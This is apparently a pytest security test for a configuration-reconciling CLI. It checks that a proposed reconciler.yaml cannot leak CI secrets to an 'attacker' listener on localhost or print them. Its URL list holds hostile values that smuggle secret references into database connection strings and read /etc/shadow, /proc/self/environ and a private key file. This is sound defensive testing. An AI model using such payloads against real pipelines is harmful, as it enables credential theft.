"""What a change of reconciler.yaml that somebody proposes can do with the secrets of the job that looks at it."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.repository import Cli, Place

CANARY = "Kanarie7Vogel"
SECRETS = (
    "GITHUB_TOKEN",
    "AWS_SECRET_ACCESS_KEY",
    "CI_JOB_TOKEN",
    "ACTIONS_RUNTIME_TOKEN",
    "SHOP_PASSWORD",
    "SHOP_URL",
)
COMMANDS = (
    *(["validate"], ["plan"], ["plan", "--json"], ["drift", "--log-format", "json"], ["doctor", "--json"]),
    ["plan", "--output", "markdown=report.md", "--output", "html=report.html", "--output", "github"],
)


class Listening:
    """A server of the attacker: notes that somebody came."""

    def __init__(self) -> None:
        self.came = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.came += 1
            connection.close()

    def stop(self) -> None:
        self._socket.close()


@pytest.fixture
def evil() -> Iterator[Listening]:
    server = Listening()
    yield server
    server.stop()


@pytest.fixture
def job(place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    """A job that has secrets in its environment and in files."""
    for name in [name for name in os.environ if name.startswith("RECONCILER_")]:
        monkeypatch.delenv(name)
    for name in SECRETS:
        monkeypatch.setenv(name, CANARY)
    monkeypatch.setenv("RECONCILER_DEBUG", "1")
    (tmp_path / "id_rsa").write_text(CANARY, encoding="utf-8")
    (place.folder / "esp_url").symlink_to(tmp_path / "id_rsa")
    return place


URLS = [
    "postgresql://${{GITHUB_TOKEN}}@127.0.0.1:{port}/d",
    "postgresql://u:${{GITHUB_TOKEN}}@127.0.0.1:{port}/d",
    "mysql://u:${{SHOP_PASSWORD}}@127.0.0.1:{port}/d",
    "mysql://u@127.0.0.1:{port}/${{AWS_SECRET_ACCESS_KEY}}",
    "mysql://u@127.0.0.1:{port}/d?init_command=${{CI_JOB_TOKEN}}",
    "mysql://u@127.0.0.1:{port}/d?local_infile=1",
    "mysql://u@127.0.0.1:{port}/d?read_default_file=/etc/shadow",
    "postgresql://u@127.0.0.1:{port}/d?passfile=/etc/shadow",
    "env:GITHUB_TOKEN",
    "env:SHOP_URL",
    "file:/etc/shadow",
    "file:/proc/self/environ",
    "file:../id_rsa",
    "file:esp_url",
]


@pytest.mark.parametrize("url", URLS)
def test_a_proposed_url_sends_nothing_and_shows_nothing(cli: Cli, job: Place, evil: Listening, url: str) -> None:
    text = "project: test\ntargets: {esp: {type: native, insecure: true, url: 'URL'}}\n"
    job.write("reconciler.yaml", text.replace("URL", url.format(port=evil.port)))
    for command in COMMANDS:
        ended = cli(*command)
        if command == ["validate"] and url == "file:esp_url":
            continue  # it looks at no live system, so at no secret
        assert ended.code == 1, ended
        shown = ended.out + ended.err
        for report in ("report.md", "report.html"):
            path = job.folder / report
            shown += path.read_text(encoding="utf-8") if path.exists() else ""
        assert CANARY not in shown
        assert "internal error" not in shown
        assert "targets.esp.url" in shown
    assert evil.came == 0
